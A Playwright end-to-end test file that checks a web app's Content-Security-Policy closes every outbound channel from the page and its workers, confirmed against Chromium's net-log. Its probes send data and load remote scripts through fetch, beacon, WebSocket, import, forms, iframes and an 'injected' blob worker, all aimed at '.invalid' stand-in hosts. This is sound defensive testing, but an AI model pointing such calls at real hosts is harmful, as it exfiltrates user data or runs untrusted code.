/**
 * Closed egress, proved from the browser's side: the Content-Security-Policy header on the
 * document and on every worker script (nested ones included), every way a page or worker
 * could send data to another host refused by the policy (the browser's own
 * `securitypolicyviolation` reports), and a Chromium net-log — which sees the network
 * service itself, so every process and every worker — showing no request of the app's left
 * for another host. app.e2e.ts's interception check stays as a second net.
 *
 * Probe addresses are under `.invalid` (RFC 2606): even a policy that failed open would send
 * nothing anywhere.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page, type Worker } from 'playwright-core';
import { chromiumLaunchOptions, ORIGIN, startServer, stopServer, waitForDemo } from './harness.ts';
import { cspHeader, cspMeta, parseConnectOrigins } from '../../deploy/csp.ts';

const origins = parseConnectOrigins(process.env.BP_CONNECT_ORIGINS);
const POLICY = cspHeader(origins);

interface Violation {
  where: string;
  directive: string;
  blocked: string;
}

/** Record the policy's refusals in a page or worker global, from as early as we can hook in. */
function recordViolations(where: string): void {
  const g = globalThis as unknown as { __bpViolations?: Violation[] };
  if (g.__bpViolations) return;
  const list: Violation[] = (g.__bpViolations = []);
  addEventListener('securitypolicyviolation', (e) => {
    const v = e as SecurityPolicyViolationEvent;
    list.push({ where, directive: v.effectiveDirective, blocked: v.blockedURI });
  });
}

/** Every outgoing API a worker has, each to its own `.invalid` host; answers how each ended. */
async function workerProbes(tag: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const settle = (p: Promise<unknown>) => Promise.race([p.then(() => 'reached', (e) => `refused: ${String(e)}`), new Promise<string>((r) => setTimeout(() => r('pending'), 3_000))]);
  out.fetch = await settle(fetch(`https://${tag}-fetch.invalid/x`, { mode: 'no-cors', cache: 'no-store' }));
  out.import = await settle(import(/* @vite-ignore */ `https://${tag}-import.invalid/x.js`));
  out.xhr = await settle(
    new Promise((resolve, reject) => {
      const x = new XMLHttpRequest();
      x.onload = resolve;
      x.onerror = () => reject(new Error('xhr error'));
      try {
        x.open('GET', `https://${tag}-xhr.invalid/x`);
        x.send();
      } catch (e) {
        reject(e);
      }
    }),
  );
  out.websocket = await settle(
    new Promise((resolve, reject) => {
      try {
        const ws = new WebSocket(`wss://${tag}-ws.invalid/x`);
        ws.onopen = resolve;
        ws.onerror = () => reject(new Error('websocket error'));
      } catch (e) {
        reject(e);
      }
    }),
  );
  await new Promise((r) => setTimeout(r, 200)); // violation events are queued as tasks
  return out;
}

/** The page's own ways out, each to its own `.invalid` host. */
async function pageProbes(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const settle = (p: Promise<unknown>) => Promise.race([p.then(() => 'reached', (e) => `refused: ${String(e)}`), new Promise<string>((r) => setTimeout(() => r('pending'), 3_000))]);
  out.fetch = await settle(fetch('https://page-fetch.invalid/x', { method: 'POST', body: 'rows', mode: 'no-cors' }));
  out.beacon = String(navigator.sendBeacon('https://page-beacon.invalid/x', 'rows'));
  const moduleUrl = 'https://page-import.invalid/x.js';
  out.import = await settle(import(/* @vite-ignore */ moduleUrl));
  out.eventsource = await settle(
    new Promise((resolve, reject) => {
      try {
        const es = new EventSource('https://page-sse.invalid/x');
        es.onopen = resolve;
        es.onerror = () => (es.close(), reject(new Error('eventsource error')));
      } catch (e) {
        reject(e);
      }
    }),
  );
  out.img = await settle(
    new Promise((resolve, reject) => {
      const img = new Image();
      img.onload = resolve;
      img.onerror = () => reject(new Error('img error'));
      img.src = 'https://page-img.invalid/x.png';
    }),
  );
  const frame = document.createElement('iframe');
  frame.src = 'https://page-frame.invalid/x';
  document.body.append(frame);
  const form = document.createElement('form');
  form.method = 'post';
  form.action = 'https://page-form.invalid/x';
  form.target = '_self';
  document.body.append(form);
  form.submit();
  const link = document.createElement('link');
  link.rel = 'prefetch';
  link.href = 'https://page-prefetch.invalid/x';
  document.head.append(link);
  await new Promise((r) => setTimeout(r, 1_000));
  frame.remove();
  form.remove();
  link.remove();
  return out;
}

/** A worker of the page's own making from a blob: URL (what injected script would do). */
async function blobWorkerProbe(): Promise<{ fetch: string; importScripts: string; violations: Violation[] }> {
  const src = `
    const violations = [];
    addEventListener('securitypolicyviolation', (e) => violations.push({ where: 'blob worker', directive: e.effectiveDirective, blocked: e.blockedURI }));
    (async () => {
      let f, s;
      try { await fetch('https://blob-fetch.invalid/x', { mode: 'no-cors' }); f = 'reached'; } catch (e) { f = 'refused: ' + e; }
      try { importScripts('https://blob-script.invalid/x.js'); s = 'reached'; } catch (e) { s = 'refused: ' + e; }
      await new Promise((r) => setTimeout(r, 200));
      postMessage({ fetch: f, importScripts: s, violations });
    })();`;
  const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
  return new Promise((resolve) => (w.onmessage = (e) => (w.terminate(), resolve(e.data))));
}

/** Chromium's net-log; it is complete once the browser has closed. Tolerates a cut-off tail. */
function readNetLog(path: string): { events: Array<{ type: number; params?: Record<string, unknown> }>; types: Record<string, number> } {
  let text = readFileSync(path, 'utf8').trimEnd();
  if (!text.endsWith('}')) text = text.replace(/,?\s*$/, '') + ']}';
  const j = JSON.parse(text) as { constants: { logEventTypes: Record<string, number> }; events: Array<{ type: number; params?: Record<string, unknown> }> };
  return { events: j.events, types: j.constants.logEventTypes };
}

describe('closed egress', () => {
  const netLog = join(tmpdir(), `branch-planner-egress-${process.pid}.netlog.json`);
  let browser: Browser | null = null;
  let context: BrowserContext;
  let page: Page;
  const workers: Worker[] = [];
  const responseCsp = new Map<string, string | undefined>();
  const errors: string[] = [];

  const violationsEverywhere = async (): Promise<Violation[]> => {
    const all: Violation[] = await page.evaluate(() => (globalThis as unknown as { __bpViolations: Violation[] }).__bpViolations);
    for (const w of workers) {
      try {
        all.push(...(await w.evaluate(() => (globalThis as unknown as { __bpViolations?: Violation[] }).__bpViolations ?? [])));
      } catch {
        /* a finished worker (e.g. a solver run's) has nothing more to say */
      }
    }
    return all;
  };
  const workerLike = (re: RegExp) => workers.find((w) => re.test(w.url()));

  before(async () => {
    await startServer();
    const opts = await chromiumLaunchOptions();
    browser = await chromium.launch({ headless: true, ...opts, args: [...opts.args, `--log-net-log=${netLog}`] });
    context = await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 800 } });
    // tsx names functions with a `__name` helper that the browser does not have.
    await context.addInitScript(`globalThis.__name = (f) => f; (${recordViolations.toString()})('page')`);
    page = await context.newPage();
    page.on('response', (r) => responseCsp.set(r.url(), r.headers()['content-security-policy']));
    page.on('worker', (w) => {
      workers.push(w);
      w.evaluate('globalThis.__name = (f) => f')
        .then(() => w.evaluate(recordViolations, `worker ${w.url()}`))
        .catch(() => {});
    });
    page.on('pageerror', (e) => errors.push(String(e)));
    page.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    // `?canary`: the DB worker's own probeNetwork() tries an outside address at start-up.
    await page.goto(ORIGIN + '/?canary', { timeout: 30_000 });
    await waitForDemo(page);
  });

  after(async () => {
    await browser?.close();
    stopServer();
    rmSync(netLog, { force: true });
  });

  it('sends the policy as a header with the document and every worker script, and puts it in the <meta>', async () => {
    assert.equal(responseCsp.get(ORIGIN + '/?canary'), POLICY, 'document');
    const scripts = workers.map((w) => w.url()).filter((u) => u.startsWith(ORIGIN));
    // the DB worker, the analysis worker and DuckDB's engine worker nested in the DB worker
    for (const re of [/db\.worker/, /analysis\.worker/, /duckdb-browser-eh\.worker/]) assert.ok(scripts.some((u) => re.test(u)), `no worker ${re} seen in ${scripts.join(', ')}`);
    for (const u of scripts) assert.equal(responseCsp.get(u), POLICY, `worker script ${u}`);
    const wasm = [...responseCsp.keys()].filter((u) => u.endsWith('.wasm'));
    assert.ok(wasm.length > 0);
    for (const u of wasm) assert.equal(responseCsp.get(u), POLICY, u);
    const meta = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'));
    assert.equal(meta, cspMeta(origins));
  });

  it("refused the app's own DB-worker canary by the policy", async () => {
    const db = workerLike(/db\.worker/)!;
    // The app's start-up probe (`?canary`) may run before the recorder reached this worker (a
    // race under load): the worker's own probeNetwork() runs again once it listens.
    await db.evaluate('globalThis.__name = (f) => f');
    await db.evaluate(recordViolations, `worker ${db.url()}`);
    await db.evaluate(() => (globalThis as unknown as { __bpDb: { probeNetwork(): Promise<string> } }).__bpDb.probeNetwork());
    const deadline = Date.now() + 60_000;
    let v: Violation[] = [];
    while (Date.now() < deadline) {
      v = await db.evaluate(() => (globalThis as unknown as { __bpViolations: Violation[] }).__bpViolations);
      if (v.some((x) => x.blocked.includes('canary.invalid'))) break;
      await new Promise((r) => setTimeout(r, 200));
    }
    assert.ok(
      v.some((x) => x.blocked.includes('canary.invalid') && x.directive === 'connect-src'),
      `probeNetwork() was not refused by connect-src: ${JSON.stringify(v)}`,
    );
  });

  it('runs a site analysis (grid helper and solver workers) with no refusal of its own', async () => {
    await page.getByTestId('tab-sites').click();
    await page.getByTestId('sites-run').click({ timeout: 10_000 });
    await page.waitForSelector('[data-testid="sites-row-5"]', { timeout: 180_000 });
    assert.ok(workerLike(/sites-solve\.worker/), `no solver worker seen in ${workers.map((w) => w.url()).join(', ')}`);
    for (const w of workers.filter((w) => w.url().startsWith(ORIGIN))) assert.equal(responseCsp.get(w.url()), POLICY, w.url());
  });

  it('refuses every way out of the DB worker, DuckDB’s engine worker, the analysis worker and MapLibre’s blob worker', async () => {
    const targets: Array<[string, RegExp]> = [
      ['db', /db\.worker/],
      ['engine', /duckdb-browser-eh\.worker/],
      ['analysis', /analysis\.worker/],
      ['maplibre', /^blob:/],
    ];
    for (const [tag, re] of targets) {
      const w = workerLike(re);
      assert.ok(w, `no ${tag} worker`);
      const out = await w.evaluate(workerProbes, tag);
      for (const [k, r] of Object.entries(out)) assert.match(r, /^refused/, `${tag} ${k}: ${r}`);
      const v: Violation[] = await w.evaluate(() => (globalThis as unknown as { __bpViolations: Violation[] }).__bpViolations);
      for (const k of ['fetch', 'xhr', 'ws']) {
        assert.equal(v.find((x) => x.blocked.includes(`${tag}-${k}.invalid`))?.directive, 'connect-src', `${tag} ${k}: ${JSON.stringify(v)}`);
      }
      assert.equal(v.find((x) => x.blocked.includes(`${tag}-import.invalid`))?.directive, 'script-src-elem', `${tag} import: ${JSON.stringify(v)}`);
    }
  });

  it('refuses a blob worker made by injected script', async () => {
    const out = await page.evaluate(blobWorkerProbe);
    assert.match(out.fetch, /^refused/);
    assert.match(out.importScripts, /^refused/);
    assert.equal(out.violations.find((x) => x.blocked.includes('blob-fetch.invalid'))?.directive, 'connect-src');
    assert.ok(out.violations.some((x) => x.blocked.includes('blob-script.invalid') && /^script-src/.test(x.directive)), JSON.stringify(out.violations));
  });

  it('tells the user, in their language, when a basemap style server is not on the allow-list', async () => {
    await page.getByTestId('settings-open').click();
    const dialog = page.getByTestId('settings');
    await dialog.getByLabel('Style URL', { exact: true }).check();
    await dialog.getByRole('textbox').fill('https://tiles.elsewhere.invalid/style.json');
    const notice = dialog.getByTestId('basemap-refused');
    assert.match(await notice.innerText(), /Your browser will refuse https:\/\/tiles\.elsewhere\.invalid/);
    assert.ok(await dialog.getByRole('button', { name: 'Apply' }).isDisabled(), 'Apply offered for a server the browser will refuse');
    // The dialog's backdrop covers the switch; the language changes under it all the same.
    await page.getByTestId('lang-switch').dispatchEvent('click');
    assert.match(await notice.innerText(), /浏览器将拒绝连接 https:\/\/tiles\.elsewhere\.invalid/);
    await page.getByTestId('lang-switch').dispatchEvent('click');
    await dialog.getByRole('textbox').fill(ORIGIN + '/basemap/style.json');
    assert.equal(await notice.count(), 0, 'the app’s own server is refused');
    await dialog.getByRole('button', { name: 'Close' }).click();
  });

  // Last of the probes: a refused form submission leaves Playwright waiting for a navigation.
  it('refuses every way out of the page', async () => {
    const out = await page.evaluate(pageProbes);
    for (const k of ['fetch', 'import', 'eventsource', 'img']) assert.match(out[k], /^refused/, `page ${k}: ${out[k]}`);
    // sendBeacon answers true (queued) before the policy refuses the send: the violation counts.
    const v = await page.evaluate(() => (globalThis as unknown as { __bpViolations: Violation[] }).__bpViolations);
    const by = (host: string) => v.find((x) => x.blocked.includes(host))?.directive;
    assert.equal(by('page-fetch.invalid'), 'connect-src');
    assert.equal(by('page-beacon.invalid'), 'connect-src');
    assert.equal(by('page-sse.invalid'), 'connect-src');
    assert.equal(by('page-import.invalid'), 'script-src-elem');
    assert.equal(by('page-img.invalid'), 'img-src');
    assert.equal(by('page-frame.invalid'), 'frame-src');
    assert.equal(by('page-form.invalid'), 'form-action');
    const at = new URL(page.url());
    assert.equal(at.origin + at.pathname + at.search, ORIGIN + '/?canary', 'the form navigated away');
  });

  it('was refused nothing but the probes, and raised no page error', async () => {
    const v = await violationsEverywhere();
    assert.deepEqual(v.filter((x) => !/\.invalid(\/|$)/.test(x.blocked)), []);
    // Chromium logs each refusal as a console error (those are the probes'), and its own
    // request for /favicon.ico, which the app does not have, as a 404.
    assert.deepEqual(errors.filter((e) => !e.includes('.invalid') && !/^Failed to load resource: .* 404/.test(e)), []);
  });

  it('sent no request of its own to another host: the net-log of every process agrees', async () => {
    await browser!.close();
    browser = null;
    const { events, types } = readNetLog(netLog);
    const start = types.URL_REQUEST_START_JOB;
    // The app's requests are those its page and workers start (their initiator is the app's
    // origin). The browser's own — component updates, accounts, autofill's form signatures
    // for the probe's form — start from no origin and are not the app's to close.
    const app = events.filter((e) => e.type === start && typeof e.params?.url === 'string' && e.params.initiator === ORIGIN);
    const urls = app.map((e) => String(e.params!.url));
    assert.ok(urls.some((u) => /duckdb-eh.*\.wasm$/.test(u)) && urls.some((u) => u.includes('/demo/')), `the net-log missed the app's own requests: ${urls.length}`);
    assert.deepEqual(urls.filter((u) => !u.startsWith(ORIGIN + '/')), []);
    // No probe's host appears anywhere in the log — no request, connection or DNS lookup —
    // with one exception the policy cannot prevent: when it refuses a navigation (the frame,
    // the form), Chromium has already started resolving and preconnecting to the host. The
    // host name is all that leaves; no request is made.
    const names = Object.fromEntries(Object.entries(types).map(([k, v]) => [v, k]));
    const preconnectOnly = /^(HTTP_STREAM_JOB_CONTROLLER|TCP_CLIENT_SOCKET_POOL_|SOCKET_POOL_|HOST_RESOLVER_|DNS_|TRANSPORT_CONNECT_JOB|CONNECT_JOB)/;
    const leaks: string[] = [];
    for (const e of events) {
      const text = JSON.stringify(e.params ?? {});
      for (const host of new Set(text.match(/[a-z-]+\.invalid/g) ?? [])) {
        const navigation = host === 'page-frame.invalid' || host === 'page-form.invalid';
        if (!navigation || !preconnectOnly.test(names[e.type] ?? '')) leaks.push(`${names[e.type]}: ${host}`);
      }
    }
    assert.deepEqual(leaks, []);
  });
});
